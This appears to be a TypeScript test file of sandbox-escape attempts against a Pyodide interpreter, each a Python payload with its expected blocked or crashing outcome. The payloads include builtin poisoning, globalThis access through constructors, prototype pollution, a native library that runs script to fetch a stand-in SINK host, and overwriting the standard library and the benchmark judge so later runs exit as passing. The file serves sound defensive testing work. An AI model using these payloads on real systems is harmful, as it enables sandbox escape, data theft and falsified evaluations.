/** 35 to 43, with the rest of 1 to 44: what outlives the verdict, and what breaks the interpreter. */
import type { Attempt } from './attempt.ts';
import { smallLibrary } from './small-library.ts';

/** The frame's policy refuses to turn text into code. */
const noEval = /EvalError: .*Content Security Policy/;

export const interpreterAttempts: readonly Attempt[] = [
  {
    number: 35,
    name: 'a call later that changes builtins',
    python: `
import asyncio, builtins
def poison(): builtins.isinstance = lambda *_: True
loop = asyncio.new_event_loop()
loop.call_soon(poison)
loop.call_later(0.001, poison)
seen = "scheduled"`,
    ends: /^got scheduled$/,
  },
  {
    number: 36,
    name: 'script by the event loop’s function',
    python: `
from pyodide import webloop
seen = webloop.scheduleCallback.constructor("return globalThis")()`,
    ends: noEval,
  },
  {
    number: 37,
    name: 'a change of what all objects of JavaScript inherit',
    python: `
from pyodide.ffi import to_js
array = to_js([]).constructor
places = array.prototype, array.__proto__, array.__proto__.__proto__
changed = []
for place in places:
    for name in ("push", "toJSON", "then", "onmessage", "toString"):
        try: setattr(place, name, None); changed.append(name)
        except Exception: pass
seen = changed`,
    ends: /^got \[\]$/,
  },
  {
    number: 38,
    name: 'objects of JavaScript found by gc',
    python: `
import gc, sys
from pyodide.ffi import JsProxy
known = [value for module in list(sys.modules.values()) for value in getattr(module, "__dict__", {}).values()]
found = [one for one in (*gc.get_objects(), *known) if isinstance(one, JsProxy)]
seen = []
for proxy in found:
    try: seen.append(str(proxy.constructor.constructor("return globalThis")()))
    except Exception as error: seen.append(type(error).__name__)
seen = set(seen)`,
    ends: /^got (set\(\)|{'(AttributeError|JsException)'(, '(AttributeError|JsException)')*})$/,
  },
  {
    number: 39,
    name: 'a library of one’s own with script in it',
    python: `${smallLibrary}
script = "()<::>{ return fetch('" + SINK + "') }"
seen = load_library(script.encode() + bytes(1), script="x")`,
    ends: noEval,
  },
  {
    number: 39,
    name: 'a library of one’s own that runs script',
    python: `${smallLibrary}
script = "fetch('" + SINK + "')"
seen = load_library(script.encode() + bytes(1), call="emscripten_run_script")`,
    ends: 'crash',
    reachesSink: true,
  },
  {
    number: 41,
    name: 'a gigabyte of output',
    python: `
import os
for descriptor in (1, 2):
    for _ in range(50_000): os.write(descriptor, b"x" * 10_000)
seen = "written"`,
    ends: /^got written$/,
  },
  {
    number: 41,
    name: 'a hundred thousand messages',
    python: 'import js\nfor _ in range(100_000): js.postMessage("x")',
    ends: /^ModuleNotFoundError: /,
  },
  {
    number: 42,
    name: 'the standard library, overwritten for the next run',
    python: `
with open("/lib/python314.zip", "r+b") as file: seen = file.write(bytes(1_000_000))`,
    ends: /^got 1000000$/,
  },
  {
    number: 42,
    name: 'the judge, overwritten for the next run',
    python: `
import bench_runner
place = bench_runner.__path__[0]
for name in ("judging", "host", "verdict"):
    with open(f"{place}/{name}.py", "w") as file: file.write("raise SystemExit(0)")
seen = "written"`,
    ends: /^got written$/,
  },
  {
    number: 43,
    name: 'the memory, overwritten',
    python: `
again("ctypes", "_ctypes")
import ctypes
ctypes.memset(1024, 1, 20_000_000)`,
    ends: 'crash',
  },
];
